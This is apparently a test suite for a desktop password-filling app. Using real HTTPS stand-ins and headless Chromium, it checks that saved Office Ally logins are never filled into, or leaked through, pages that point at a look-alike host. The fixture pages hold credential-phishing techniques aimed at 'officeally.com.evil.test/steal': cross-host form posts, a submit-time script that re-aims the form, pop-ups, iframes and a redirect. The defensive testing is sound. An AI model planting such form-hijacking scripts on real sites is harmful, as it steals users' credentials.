import { mkdtempSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { chromiumPath } from '../../scripts/chromium.mjs';
import { html, startHttpsStandIns, type HttpsStandIn, type HttpsStandIns } from '../../test/fixtures/httpsStandIns';
import { AdjustableClock } from '../services/clock';
import { createPortalsService, type PortalsService } from '../services/portals/service';
import { PORTALS_STORE_DEFAULTS } from '../services/portals/state';
import { confStores } from './node';
import { NodePortalWindows } from './portalWindowsNode';

/**
 * Issue 20, item 2, in browser mode: real https servers stand in for an Office Ally host and a
 * look-alike; real Chromium reaches them by name. Every check is made on the servers: the
 * look-alike must receive nothing at all — no request, not even a connection.
 */
const hasChromium = Boolean(chromiumPath());
const PORTAL = 'sc.officeally.com';
const EVIL = 'officeally.com.evil.test';
const PASSWORD = 'Correct-Horse-7!';

let stand: HttpsStandIns;
let portal: HttpsStandIn;
let evil: HttpsStandIn;
let dataDir: string;
let downloads: string;
let windows: NodePortalWindows;
let service: PortalsService;
const key = 'ann00001:practice-mate';

const until = async (check: () => boolean, what: string, ms = 15_000) => {
  const end = Date.now() + ms;
  while (!check()) {
    if (Date.now() > end) throw new Error(`timed out waiting for ${what}`);
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
};
const settle = (ms = 1_500) => new Promise((resolve) => setTimeout(resolve, ms));
const fields =
  '<label for="username">Username</label><input id="username" name="username"><label for="password">Password</label><input id="password" name="password" type="password">';
const notices = () => service.view().notices.map((n) => n.message);
const page = () => windows.pages(key)[0]!;

describe.skipIf(!hasChromium)('browser mode: a filled secret and every navigation stay on the entry’s own hosts (real https stand-ins)', () => {
  beforeAll(async () => {
    const evilUrl = (path: string) => `${evil.origin}${path}`;
    stand = await startHttpsStandIns({
      [PORTAL]: {
        '/login': (_req, res) => html(res, `<form method="post" action="/login">${fields}<button type="submit">Continue</button></form>`),
        '/home': (_req, res) => html(res, '<h1>Home</h1><a href="/logout">Log out</a>'),
        '/login-blank': (_req, res) => html(res, `<form method="post" action="${evilUrl('/steal')}" target="_blank">${fields}<button>Continue</button></form>`),
        '/login-frame': (_req, res) =>
          html(
            res,
            `<iframe name="side" title="side"></iframe><form method="post" action="${evilUrl('/steal')}" target="side">${fields}<button>Continue</button></form>`,
          ),
        // The form looks right when AllyDesk checks it; the page's own script re-aims it as it is sent.
        '/login-swap-blank': (_req, res) =>
          html(
            res,
            `<form method="post" action="/login">${fields}<button>Continue</button></form><script>document.querySelector('form').addEventListener('submit', (e) => { e.target.action = ${JSON.stringify(evilUrl('/steal'))}; e.target.target = '_blank'; });</script>`,
          ),
        '/login-swap-frame': (_req, res) =>
          html(
            res,
            `<iframe name="side" title="side"></iframe><form method="post" action="/login">${fields}<button>Continue</button></form><script>document.querySelector('form').addEventListener('submit', (e) => { e.target.action = ${JSON.stringify(evilUrl('/steal'))}; e.target.target = 'side'; });</script>`,
          ),
        '/popups': (_req, res) =>
          html(
            res,
            `<button onclick='window.open(${JSON.stringify(evilUrl('/report'))})'>Report</button>
             <button onclick='window.open(${JSON.stringify(evilUrl('/era.835'))})'>Download elsewhere</button>
             <button onclick='const w = window.open(""); w.location = ${JSON.stringify(evilUrl('/later'))};'>Blank then elsewhere</button>
             <a href="/redirect">Redirect</a> <a href="/era.835">Download ERA</a>`,
          ),
        '/frame': (_req, res) => html(res, `<iframe title="outside" src="${evilUrl('/frame')}"></iframe><iframe title="inside" src="/inner"></iframe>`),
        '/inner': (_req, res) => html(res, '<p>inner frame</p>'),
        '/redirect': (_req, res) => res.writeHead(307, { location: evilUrl('/steal') }).end(),
        '/era.835': (_req, res) =>
          res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="era.835"' }).end('ISA*00'),
      },
      [EVIL]: {
        '/steal': (_req, res) => html(res, 'got it'),
        '/report': (_req, res) => html(res, 'report'),
        '/later': (_req, res) => html(res, 'later'),
        '/frame': (_req, res) => html(res, 'frame'),
        '/era.835': (_req, res) =>
          res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-disposition': 'attachment; filename="evil.835"' }).end('X'),
      },
    });
    portal = stand.hosts[PORTAL]!;
    evil = stand.hosts[EVIL]!;
    dataDir = mkdtempSync(join(tmpdir(), 'allydesk-guard-'));
    downloads = mkdtempSync(join(tmpdir(), 'allydesk-guard-dl-'));
    service = createPortalsService({
      clock: new AdjustableClock(),
      store: confStores(dataDir).open('portals', PORTALS_STORE_DEFAULTS),
      createWindows: (policy) => (windows = new NodePortalWindows({ dataDir, policy, downloadsDir: downloads, headless: true, extraArgs: stand.chromiumArgs })),
      vault: {
        currentProfile: () => ({ id: 'ann00001', name: 'Ann' }),
        loginTarget: () => ({ profileId: 'ann00001', profileName: 'Ann', portal: 'practice-mate', entryUrl: '' }),
        readForFill: () => ({ username: 'ann', password: PASSWORD, recordFill: () => undefined }),
      },
      timers: {
        loggedIn: () => undefined,
        activity: () => undefined,
        loggedOut: () => undefined,
        codeRequested: () => undefined,
        setSessionMinutes: () => undefined,
      },
      notifications: { notify: () => undefined },
      configuredUrls: () => ({}),
      loginUrl: () => `${portal.origin}/login`,
      testHooks: false,
    });
    await service.open('practice-mate');
    await until(() => portal.requests.some((r) => r.path === '/login'), 'the login page');
  }, 60_000);
  afterAll(async () => {
    await service?.dispose();
    await stand?.close();
    if (dataDir) rmSync(dataDir, { recursive: true, force: true });
    if (downloads) rmSync(downloads, { recursive: true, force: true });
  });

  it('fills nothing into a form whose action is another host and whose target is a new window or a frame', async () => {
    for (const path of ['/login-blank', '/login-frame']) {
      await page().goto(`${portal.origin}${path}`);
      const before = notices().length;
      await service.logIn('entry');
      await until(() => notices().length > before, `the notice on ${path}`);
      expect(notices().at(-1), path).toBe(
        `AllyDesk did not fill your login: this page's form would send it to ${EVIL}:${new URL(evil.origin).port}, not to where this saved login belongs. Tell your practice's IT if this is an Office Ally page.`,
      );
      expect(await page().getByLabel('Password').inputValue(), path).toBe('');
    }
    expect(evil.requests).toEqual([]);
    expect(evil.connections).toBe(0);
  }, 60_000);

  it("a page's script that re-aims the filled form at another host as it is sent reaches nothing: the pop-up's and the frame's first navigation are stopped", async () => {
    for (const path of ['/login-swap-blank', '/login-swap-frame']) {
      await page().goto(`${portal.origin}${path}`);
      await service.logIn('entry');
      // The fill passes AllyDesk's check (the form says /login) and is sent; the script re-aims it on the way out.
      await expect.poll(() => page().getByLabel('Password').inputValue(), { timeout: 15_000 }).toBe(PASSWORD);
      await settle();
    }
    expect(evil.requests).toEqual([]);
    expect(evil.connections).toBe(0);
    expect(windows.pages(key)).toHaveLength(1); // the refused pop-up is gone
    // The re-aimed form went nowhere: not to the look-alike, and not back to the portal either.
    expect(portal.requests.filter((r) => r.body.includes(PASSWORD))).toEqual([]);
  }, 60_000);

  it('a pop-up to another host (first navigation, or after starting blank), a frame and a redirect reach nothing; the pop-up is offered to the browser', async () => {
    await page().goto(`${portal.origin}/popups`);
    const before = notices().length;
    await page().getByRole('button', { name: 'Report' }).click();
    await until(() => notices().length > before, 'the offer to open it in the browser');
    expect(service.view().notices.at(-1)).toMatchObject({ offer: 'external', url: `${evil.origin}/report` });
    await page().getByRole('button', { name: 'Blank then elsewhere' }).click();
    await page().getByRole('button', { name: 'Download elsewhere' }).click();
    await page().getByRole('link', { name: 'Redirect' }).click();
    await settle();
    await page().goto(`${portal.origin}/frame`);
    await page().frameLocator('iframe[title="inside"]').getByText('inner frame').waitFor();
    await settle();
    expect(evil.requests).toEqual([]);
    expect(evil.connections).toBe(0);
    expect(readdirSync(downloads)).toEqual([]);
    await until(() => windows.pages(key).length === 1, 'the refused pop-ups to close');
  }, 60_000);

  it('a download from the allowed page is still saved', async () => {
    await page().goto(`${portal.origin}/popups`);
    await page().getByRole('link', { name: 'Download ERA' }).click();
    await until(() => notices().at(-1) === 'Saved era.835 to your Downloads folder.', 'the download notice');
    expect(readdirSync(downloads)).toEqual(['era.835']);
    expect(evil.requests).toEqual([]);
  }, 60_000);
});
